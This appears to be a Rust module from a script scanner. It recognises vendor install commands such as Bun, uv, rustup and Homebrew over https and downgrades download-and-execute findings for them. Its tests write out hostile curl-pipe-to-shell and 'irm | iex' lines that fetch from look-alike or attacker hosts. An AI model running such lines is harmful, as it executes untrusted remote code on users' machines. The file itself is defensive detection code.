//! Vendors' own installers (issue "precision"): `curl -fsSL https://bun.sh/install | bash`
//! is R-RULE-5's pattern exactly, and it is how Bun, uv, rustup, Homebrew and
//! many others tell people to install them. A download-exec finding whose
//! every address on its line is a known vendor's installer, over https, is
//! kept (R-DEC-6 is unchanged: it still shows and still raises the rating to
//! Caution) but lowered to a low-severity note naming the vendor.
//!
//! The list is data, `crates/engine/data/vendor-installers.tsv`, one vendor
//! address per line with the vendor's page that gives the command. Matching
//! is on the address alone, exactly: an `http://` address, a look-alike host
//! (`bun.sh.evil.io`, `bun-sh.io`), a path under a shared host that is not
//! the vendor's own repository, or a second address on the same line keeps
//! the rule's own severity. A line that runs an address held in a variable
//! (`irm $url | iex`) counts when every assignment of that variable in the
//! file is that vendor's installer and nothing else writes it
//! ([`vendor_of_variables`]).

use std::sync::LazyLock;

/// One line of the data file.
#[derive(Debug)]
struct Installer {
    vendor: &'static str,
    /// `https://…`; ends in `/` when it covers the files under it.
    prefix: &'static str,
}

static INSTALLERS: LazyLock<Vec<Installer>> = LazyLock::new(|| {
    include_str!("../../data/vendor-installers.tsv")
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .filter_map(|l| {
            let mut cols = l.split('\t');
            let vendor = cols.next()?;
            let prefix = cols.next()?;
            Some(Installer { vendor, prefix })
        })
        .collect()
});

/// The vendor whose installer every address in `line` is, when there is at
/// least one address and all of them are known installers over https.
pub(super) fn vendor_of_line(line: &str) -> Option<&'static str> {
    let mut vendor = None;
    for addr in addresses(line) {
        let v = vendor_of(addr)?;
        if vendor.is_some_and(|known| known != v) {
            return None;
        }
        vendor = Some(v);
    }
    vendor
}

/// The vendor whose installer every address held by the variables of
/// `line` is, when `line` names no address itself (`irm $url | iex`,
/// `curl -fsSL "$INSTALLER" | sh`): each `$name` of the line must be
/// assigned in `whole` (the file) only by statements whose every string is
/// that vendor's installer over https (`$url = if ($v) { "https://astral.sh/
/// uv/$v/install.ps1" } else { "https://astral.sh/uv/install.ps1" }`), with
/// no other value or variable on their right-hand side, and the name must
/// be written nowhere else (`read url`, `Set-Variable url`, a parameter
/// `[string]$url = …` the caller can override, a loop variable).
pub(super) fn vendor_of_variables(line: &str, whole: &str) -> Option<&'static str> {
    static VAR: LazyLock<regex::Regex> =
        LazyLock::new(|| regex::Regex::new(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?").unwrap());
    if !addresses(line).is_empty() {
        return None;
    }
    let mut vendor = None;
    let mut any = false;
    for c in VAR.captures_iter(line) {
        let name = c.get(1)?.as_str();
        if name.eq_ignore_ascii_case("env") || name.eq_ignore_ascii_case("true") || name.eq_ignore_ascii_case("null") {
            continue;
        }
        // Where the download is saved is not where it comes from
        // (`-OutFile $out`, `-o "$f"`).
        let before = line[..c.get(0)?.start()].trim_end().trim_end_matches(['"', '\'']).to_ascii_lowercase();
        if ["-outfile", "-o", "--output", "-destination", "-output"].iter().any(|f| before.ends_with(f)) {
            continue;
        }
        let v = vendor_assigned(name, whole)?;
        if vendor.is_some_and(|known| known != v) {
            return None;
        }
        vendor = Some(v);
        any = true;
    }
    any.then_some(vendor).flatten()
}

/// The vendor every assignment of `name` in `whole` gives it (see
/// [`vendor_of_variables`]).
fn vendor_assigned(name: &str, whole: &str) -> Option<&'static str> {
    // Names are compared without case: PowerShell's are case-insensitive.
    let lower = whole.to_ascii_lowercase();
    let n = name.to_ascii_lowercase();
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    let mut vendor = None;
    let mut from = 0;
    while let Some(i) = lower[from..].find(&n).map(|i| i + from) {
        from = i + n.len();
        let bytes = lower.as_bytes();
        if i > 0 && word(bytes[i - 1]) || bytes.get(from).is_some_and(|&b| word(b)) {
            continue;
        }
        let before = &lower[..i];
        let dollar = before.ends_with('$') || before.ends_with("${");
        let after = lower[from..].trim_start_matches('}');
        let rest = after.trim_start();
        let assigns =
            rest.starts_with('=') && !rest.starts_with("==") || rest.starts_with("+=") || rest.starts_with(":=");
        if dollar && !assigns {
            // A read, unless it is a loop's variable or handed by reference.
            if rest.starts_with("in ") || before.trim_end_matches(['$', '{']).ends_with("[ref]") {
                return None;
            }
            continue;
        }
        if !assigns || rest.starts_with("+=") || rest.starts_with(":=") {
            // Written some other way (`read url`, `Set-Variable url`).
            return None;
        }
        // An assignment: a statement of its own, not a typed parameter.
        let stmt_start = before.trim_end_matches(['$', '{']);
        let lead = stmt_start.trim_end_matches([' ', '\t']);
        let lead = lead.strip_suffix("export").or_else(|| lead.strip_suffix("local")).unwrap_or(lead);
        let lead = lead.trim_end_matches([' ', '\t']);
        if !(lead.is_empty() || lead.ends_with(['\n', ';', '{', '}'])) {
            return None;
        }
        // The value: after the `=`, to the end of the line.
        let value_start = lower.len() - rest.len() + 1;
        let value_end = lower[value_start..].find('\n').map_or(lower.len(), |e| value_start + e);
        let v = vendor_of_value(&whole[value_start..value_end])?;
        if vendor.is_some_and(|known| known != v) {
            return None;
        }
        vendor = Some(v);
    }
    vendor
}

/// The vendor of an assigned value whose every quoted string is one of
/// its installers and which holds no variable outside them but in a
/// condition (`if ($v) { "https://…" } else { "https://…" }`).
fn vendor_of_value(value: &str) -> Option<&'static str> {
    let value = value.split(" #").next().unwrap_or(value).trim();
    let mut vendor = None;
    let mut outside = String::new();
    let mut rest = value;
    while let Some(q) = rest.find(['"', '\'']) {
        outside.push_str(&rest[..q]);
        let quote = &rest[q..q + 1];
        let end = rest[q + 1..].find(quote)?;
        let lit = &rest[q + 1..q + 1 + end];
        let v = vendor_of(lit.trim())?;
        if vendor.is_some_and(|known| known != v) {
            return None;
        }
        vendor = Some(v);
        rest = &rest[q + 1 + end + 1..];
    }
    outside.push_str(rest);
    if vendor.is_none() && outside.trim().starts_with("https://") {
        // A bare address (`URL=https://sh.rustup.rs`).
        vendor = vendor_of(outside.trim());
        outside.clear();
    }
    // Conditions in brackets are read, never the value.
    let mut depth = 0usize;
    let mut kept = String::new();
    for ch in outside.chars() {
        match ch {
            '(' => depth += 1,
            ')' => depth = depth.saturating_sub(1),
            _ if depth == 0 => kept.push(ch),
            _ => {}
        }
    }
    if kept.contains('$') || kept.contains('`') {
        return None;
    }
    vendor
}

/// The vendor whose installer `addr` is.
fn vendor_of(addr: &str) -> Option<&'static str> {
    INSTALLERS.iter().find(|i| covers(i.prefix, addr)).map(|i| i.vendor)
}

fn covers(prefix: &str, addr: &str) -> bool {
    let Some(rest) = addr.strip_prefix(prefix) else { return false };
    if prefix.ends_with('/') {
        // Files under the vendor's folder, never a way back out of it.
        return !rest.split('/').any(|part| part == "..");
    }
    rest.is_empty() || rest.starts_with('?') || rest == "/"
}

/// Every address written on the line: `scheme://…` up to a space, a quote or
/// a closing bracket, and the bare host forms PowerShell and curl accept
/// (`irm bun.sh/install.ps1`), which are reported as they are written and so
/// never match an https prefix.
fn addresses(line: &str) -> Vec<&str> {
    let end_of = |s: &str| s.find(|c: char| c.is_whitespace() || "\"'`)|;<>".contains(c)).unwrap_or(s.len());
    let mut out = Vec::new();
    let mut rest = line;
    while let Some(i) = rest.find("://") {
        // Back to the scheme's first letter.
        let start = rest[..i].rfind(|c: char| !c.is_ascii_alphanumeric() && c != '+' && c != '.').map_or(0, |p| p + 1);
        let tail = &rest[start..];
        let len = end_of(tail);
        out.push(&tail[..len]);
        rest = &tail[len.max(i - start + 3)..];
    }
    // A download command with no scheme at all (`curl bun.sh/install | sh`,
    // `irm bun.sh/install.ps1 | iex`): an address nobody can check to be https.
    if out.is_empty() && line.split_whitespace().any(looks_like_bare_host) {
        out.push("");
    }
    out
}

/// `host.tld/…` written without a scheme.
fn looks_like_bare_host(word: &str) -> bool {
    let w = word.trim_matches(|c: char| "\"'`()".contains(c));
    let host = w.split('/').next().unwrap_or("");
    host.contains('.')
        && !host.starts_with('.')
        && !host.starts_with('-')
        && host.rsplit('.').next().is_some_and(|tld| tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()))
        && host.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
        && w.contains('/')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_line_of_the_data_file_has_a_vendor_an_https_address_and_a_source() {
        let lines: Vec<&str> = include_str!("../../data/vendor-installers.tsv")
            .lines()
            .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
            .collect();
        assert!(lines.len() >= 18);
        for l in lines {
            let cols: Vec<&str> = l.split('\t').collect();
            assert_eq!(cols.len(), 3, "{l}");
            assert!(!cols[0].is_empty(), "{l}");
            assert!(cols[1].starts_with("https://") && cols[1].len() > "https://x.y".len(), "{l}");
            assert!(cols[2].starts_with("https://"), "{l}");
        }
        assert_eq!(
            INSTALLERS.len(),
            include_str!("../../data/vendor-installers.tsv")
                .lines()
                .filter(|l| l.starts_with(|c: char| c.is_alphabetic()))
                .count()
        );
    }

    #[test]
    fn a_vendors_own_installer_over_https_names_the_vendor() {
        assert_eq!(vendor_of_line("curl -fsSL https://bun.sh/install | bash"), Some("Bun"));
        assert_eq!(vendor_of_line("curl -LsSf https://astral.sh/uv/install.sh | sh"), Some("Astral (uv)"));
        assert_eq!(vendor_of_line("curl -LsSf https://astral.sh/uv/0.5.1/install.sh | sh"), Some("Astral (uv)"));
        assert_eq!(
            vendor_of_line("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"),
            Some("Rust (rustup)")
        );
        assert_eq!(
            vendor_of_line(
                r#"/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)""#
            ),
            Some("Homebrew")
        );
        assert_eq!(vendor_of_line("powershell -c \"irm https://bun.sh/install.ps1 | iex\""), Some("Bun"));
    }

    #[test]
    fn look_alike_hosts_plain_http_other_paths_and_second_addresses_are_not_vendors() {
        for line in [
            "curl -fsSL http://bun.sh/install | bash",
            "curl -fsSL https://bun.sh.evil.io/install | bash",
            "curl -fsSL https://bun-sh.io/install | bash",
            "curl -fsSL https://bun.sh/install2 | bash",
            "curl -fsSL https://evil.io/?https://bun.sh/install | bash",
            "curl -fsSL https://astral.sh/uv/../../x.sh | sh",
            "curl -fsSL https://raw.githubusercontent.com/Homebrew-tools/install/HEAD/install.sh | bash",
            "curl -fsSL https://raw.githubusercontent.com/attacker/nvm/master/install.sh | bash",
            "curl https://bun.sh/install | bash; curl https://198.51.100.7/x.sh | sh",
            "irm bun.sh/install.ps1 | iex",
            "curl -fsSL 198.51.100.7/setup.sh | sh",
        ] {
            assert_eq!(vendor_of_line(line), None, "{line}");
        }
    }

    #[test]
    fn a_variable_assigned_only_a_vendors_installer_names_the_vendor() {
        let ps = "param([string]$Version = \"\")\n\
                  $url = if ($Version) { \"https://astral.sh/uv/$Version/install.ps1\" } else { \"https://astral.sh/uv/install.ps1\" }\n\
                  Write-Host \"Installing uv from $url\"\n\
                  powershell -ExecutionPolicy ByPass -c \"irm $url | iex\"\n";
        assert_eq!(
            vendor_of_variables("powershell -ExecutionPolicy ByPass -c \"irm $url | iex\"", ps),
            Some("Astral (uv)")
        );
        let sh = "#!/bin/sh\nINSTALLER=\"https://sh.rustup.rs\"\ncurl -sSf \"$INSTALLER\" | sh -s -- -y\n";
        assert_eq!(vendor_of_variables("curl -sSf \"$INSTALLER\" | sh -s -- -y", sh), Some("Rust (rustup)"));
        let bare = "export U=https://bun.sh/install\ncurl -fsSL $U | bash\n";
        assert_eq!(vendor_of_variables("curl -fsSL $U | bash", bare), Some("Bun"));
        // The file it is saved to is not where it comes from.
        let saved = "$url = \"https://www.python.org/ftp/python/$Version/python-$Version-amd64.exe\"\n\
                     $out = Join-Path $env:TEMP \"python.exe\"\nInvoke-WebRequest -Uri $url -OutFile $out\n";
        assert_eq!(
            vendor_of_variables("Invoke-WebRequest -Uri $url -OutFile $out", saved),
            Some("Python (python.org)")
        );
    }

    #[test]
    fn a_variable_that_may_hold_anything_else_names_no_vendor() {
        let line = "irm $url | iex";
        for whole in [
            // Never assigned, assigned twice to different hosts, built, overridable, read, looped.
            "irm $url | iex\n",
            "$url = \"https://astral.sh/uv/install.ps1\"\n$url = \"https://198.51.100.7/x.ps1\"\nirm $url | iex\n",
            "$url = \"https://astral.sh/uv/install.ps1\"\n$url += \"?x=1\"\nirm $url | iex\n",
            "$url = $base + \"/install.ps1\"\nirm $url | iex\n",
            "param([string]$url = \"https://astral.sh/uv/install.ps1\")\nirm $url | iex\n",
            "$url = \"https://astral.sh/uv/install.ps1\"\nSet-Variable -Name url -Value $evil\nirm $url | iex\n",
            "foreach ($url in $list) { irm $url | iex }\n$url = \"https://astral.sh/uv/install.ps1\"\n",
            "$url = if ($x) { $custom } else { \"https://astral.sh/uv/install.ps1\" }\nirm $url | iex\n",
            "$url = \"http://astral.sh/uv/install.ps1\"\nirm $url | iex\n",
            "$url = \"${1:-https://astral.sh/uv/install.ps1}\"\nirm $url | iex\n",
        ] {
            assert_eq!(vendor_of_variables(line, whole), None, "{whole}");
        }
        // A line that names an address is read as it is.
        assert_eq!(vendor_of_variables("curl https://x.example/$v | sh", "v=1\n"), None);
    }

    #[test]
    fn a_line_without_any_address_names_no_vendor() {
        assert_eq!(vendor_of_line("curl $URL | sh"), None);
        assert_eq!(vendor_of_line(""), None);
    }
}
